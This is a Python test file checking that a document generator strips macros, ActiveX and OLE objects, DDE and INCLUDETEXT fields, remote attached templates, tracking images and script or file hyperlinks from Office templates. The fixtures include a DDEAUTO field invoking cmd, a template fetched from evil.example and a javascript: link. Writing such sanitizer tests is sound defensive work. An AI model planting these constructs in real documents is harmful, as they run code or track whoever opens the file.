"""What a template may carry and a document made from it must not."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest

from generator.inventory import find_default_template
from generator.ooxml.opc import Package
from generator.ooxml.opening import open_package
from generator.ooxml.stripping import list_rules
from tests.inventory.packages import Change, copy_changed

REPORT = find_default_template() / "report.docx"
DECK = find_default_template() / "deck.pptx"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"


def relate(type_: str, target: str, *, external: bool = False, id_: str = "rIdX") -> str:
    """Return one relationship as it is written."""
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{id_}" Type="{type_}" Target="{target}"{mode}/>'


def plant(
    tmp_path: Path,
    part: str,
    link: str,
    markup: tuple[str, str] = ("", ""),
    added: dict[str, str] | None = None,
) -> Package:
    """Open our Word file, or deck, with `link` planted in the relationships of `part`.

    Args:
        tmp_path: Where the file is written.
        part: Whose relationships get one more.
        link: The relationship.
        markup: What is replaced in `part`, and by what.
        added: Further parts.
    """
    source = DECK if part.startswith("ppt/") else REPORT
    folder, _, name = part.rpartition("/")
    rels = f"{folder}/_rels/{name}.rels"
    extra = dict(added or {})
    changes: dict[str, Change] = {}
    if markup[0]:
        changes[part] = lambda text: text.replace(*markup)
    if rels in zipfile.ZipFile(source).namelist():
        changes[rels] = lambda text: text.replace("</Relationships>", f"{link}</Relationships>")
    else:
        extra[rels] = f'<Relationships xmlns="{RELS}">{link}</Relationships>'
    return open_package(copy_changed(source, tmp_path / source.name, changes, added=extra))


def rules(package: Package) -> list[str]:
    """Return the rules of the findings."""
    return [finding.rule for finding in package.findings]


@pytest.mark.parametrize(
    ("part", "link", "target", "rule"),
    [
        ("word/document.xml", f"{MICROSOFT}/vbaProject", "vbaProject.bin", "template-macros"),
        ("ppt/presentation.xml", f"{MICROSOFT}/vbaProject", "vbaProject.bin", "template-macros"),
        ("word/document.xml", f"{MICROSOFT}/keyMapCustomizations", "keys.xml", "template-macros"),
        ("word/document.xml", f"{OFFICE}/control", "activeX1.xml", "template-controls"),
        ("word/document.xml", f"{OFFICE}/oleObject", "object1.bin", "template-objects"),
        ("word/document.xml", f"{OFFICE}/package", "book.xlsx", "template-objects"),
        ("word/document.xml", f"{OFFICE}/aFChunk", "chunk.xml", "template-objects"),
    ],
)
def test_code_and_objects_stay_behind(
    tmp_path: Path, part: str, link: str, target: str, rule: str
) -> None:
    """A finding tells that they were there."""
    folder = part.rpartition("/")[0]

    package = plant(tmp_path, part, relate(link, target), added={f"{folder}/{target}": "<x/>"})

    assert rules(package) == [rule]
    assert not package.has(f"{folder}/{target}")
    assert rule in list_rules()


@pytest.mark.parametrize(
    "address",
    [
        "file:///C:/secret.docx",
        "\\\\server\\share",
        "javascript:alert(1)",
        "ms-word:ofe|u|https://x",
    ],
)
def test_a_hyperlink_that_opens_more_than_a_page_loses_its_address(
    tmp_path: Path, address: str
) -> None:
    """Its text stays in the footer."""
    link = relate(f"{OFFICE}/hyperlink", address, external=True)
    text = (
        f'<w:p xmlns:r="{OFFICE}"><w:hyperlink r:id="rIdX">'
        "<w:r><w:t>Us</w:t></w:r></w:hyperlink></w:p></w:ftr>"
    )
    package = plant(tmp_path, "word/footer1.xml", link, ("</w:ftr>", text))

    assert rules(package) == ["template-links"]
    assert b"<w:t>Us</w:t>" in package.parts["word/footer1.xml"]
    assert b"rIdX" not in package.parts["word/footer1.xml"]


@pytest.mark.parametrize("address", ["https://example.org", "mailto:info@example.org"])
def test_a_hyperlink_to_a_page_stays(tmp_path: Path, address: str) -> None:
    """The organisation's address in the footer is furniture."""
    link = relate(f"{OFFICE}/hyperlink", address, external=True)

    package = plant(tmp_path, "word/footer1.xml", link)

    assert rules(package) == []
    assert [one.target for one in package.links["word/footer1.xml"]] == [address]


def test_an_attached_template_is_let_go(tmp_path: Path) -> None:
    """Word fetches it from wherever it lies as soon as the document opens."""
    link = relate(f"{OFFICE}/attachedTemplate", "https://evil.example/x.dotm", external=True)
    attached = f'<w:attachedTemplate xmlns:r="{OFFICE}" r:id="rIdX"/><w:defaultTabStop'
    package = plant(tmp_path, "word/settings.xml", link, ("<w:defaultTabStop", attached))

    assert rules(package) == ["template-remote"]
    assert b"attachedTemplate" not in package.parts["word/settings.xml"]
    assert package.links["word/settings.xml"] == []


def test_a_picture_that_is_fetched_becomes_an_empty_one(tmp_path: Path) -> None:
    """Fetching it would tell its server who opens the deck; the place of it stays."""
    link = relate(f"{OFFICE}/image", "https://tracker.example/x.png", external=True)
    picture = (
        '<p:pic><p:nvPicPr><p:cNvPr id="90" name="Logo"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr>'
        f'<p:blipFill><a:blip xmlns:r="{OFFICE}" r:link="rIdX"/></p:blipFill><p:spPr/></p:pic>'
    )
    part = "ppt/slideMasters/slideMaster1.xml"
    package = plant(tmp_path, part, link, ("</p:spTree>", f"{picture}</p:spTree>"))

    master = package.read_xml(part)
    (blip,) = master.iter("{*}blip")
    assert rules(package) == ["template-links"]
    assert blip.attrib == {f"{{{OFFICE}}}embed": "rIdX"}
    target = next(one for one in package.links[part] if one.id == "rIdX")
    assert package.parts[target.target].startswith(b"\x89PNG")


def test_a_shape_that_runs_a_macro_stays_without_it(tmp_path: Path) -> None:
    """The shape may be the organisation's mark."""
    click = (
        f'<p:cNvPr id="90" name="Mark"><a:hlinkClick xmlns:r="{OFFICE}" r:id="" '
        'action="ppaction://macro?name=Run"/></p:cNvPr>'
    )
    shape = f"<p:sp><p:nvSpPr>{click}<p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/></p:sp></p:spTree>"
    master = "ppt/slideMasters/slideMaster1.xml"
    path = copy_changed(
        DECK, tmp_path / "deck.pptx", {master: lambda text: text.replace("</p:spTree>", shape)}
    )

    package = open_package(path)

    assert rules(package) == ["template-macros"]
    assert b'name="Mark"' in package.parts[master]
    assert b"hlinkClick" not in package.parts[master]


SIMPLE = (
    '<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;C:\\x&quot; ">'
    "<w:r><w:t>Old</w:t></w:r></w:fldSimple></w:p>"
)
COMPLEX = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r>'
    "<w:r><w:instrText>AUTO cmd x </w:instrText></w:r>"
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Old</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)


HYPERLINK = (
    '<w:p><w:fldSimple w:instr=" HYPERLINK &quot;file:///C:/INCLUDETEXT.docx&quot; ">'
    "<w:r><w:t>Old</w:t></w:r></w:fldSimple></w:p>"
)


@pytest.mark.parametrize("field", [SIMPLE, COMPLEX, HYPERLINK])
def test_a_field_that_fetches_or_runs_keeps_its_text_alone(tmp_path: Path, field: str) -> None:
    """An instruction may be spread over runs; the fields for page numbers stay."""
    part = "word/footer1.xml"
    path = copy_changed(
        REPORT,
        tmp_path / "r.docx",
        {part: lambda text: text.replace("</w:ftr>", f"{field}</w:ftr>")},
    )
    before = REPORT_FOOTER.count(b"fldChar")

    package = open_package(path)

    assert rules(package) == ["template-fields"]
    assert b"<w:t>Old</w:t>" in package.parts[part]
    assert b"INCLUDETEXT" not in package.parts[part]
    assert b"DDE" not in package.parts[part]
    assert package.parts[part].count(b"fldChar") == before


REPORT_FOOTER = zipfile.ZipFile(REPORT).read("word/footer1.xml")


def test_protection_against_editing_is_lifted(tmp_path: Path) -> None:
    """A report that nobody can edit is of no use; the template keeps its own."""
    protection = '<w:documentProtection w:edit="readOnly" w:enforcement="1"/><w:defaultTabStop'
    path = copy_changed(
        REPORT,
        tmp_path / "r.docx",
        {"word/settings.xml": lambda text: text.replace("<w:defaultTabStop", protection)},
    )

    package = open_package(path)

    assert rules(package) == ["template-protection"]
    assert b"documentProtection" not in package.parts["word/settings.xml"]


def test_a_file_with_macros_becomes_a_plain_one(tmp_path: Path) -> None:
    """Office refuses a .docx that is declared to hold macros."""
    path = copy_changed(
        REPORT,
        tmp_path / "house.dotm",
        {
            "[Content_Types].xml": lambda text: text.replace(
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
            )
        },
    )

    package = open_package(path)

    assert package.types["word/document.xml"].endswith("wordprocessingml.document.main+xml")
    assert rules(package) == []


@pytest.mark.parametrize(
    "instruction", ['HYPERLINK "https://example.org"', "HYPERLINK \\l summary", "PAGE", "TITLE"]
)
def test_other_fields_stay(tmp_path: Path, instruction: str) -> None:
    """Page numbers, titles, and links to pages and inside the document."""
    written = instruction.replace('"', "&quot;")
    field = (
        f'<w:p><w:fldSimple w:instr="{written}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p></w:ftr>'
    )
    path = copy_changed(
        REPORT,
        tmp_path / "r.docx",
        {"word/footer1.xml": lambda text: text.replace("</w:ftr>", field)},
    )

    package = open_package(path)

    assert rules(package) == []
    assert written.encode() in package.parts["word/footer1.xml"]


@pytest.mark.parametrize("kind", ["commentAuthors", "people", "printerSettings"])
def test_who_worked_on_the_template_is_not_passed_on(tmp_path: Path, kind: str) -> None:
    """Names, addresses and printers of the designer's office are nobody's business."""
    package = plant(
        tmp_path,
        "ppt/presentation.xml",
        relate(f"{OFFICE}/{kind}", "who.xml"),
        added={"ppt/who.xml": "<x/>"},
    )

    assert not package.has("ppt/who.xml")
    assert rules(package) == []
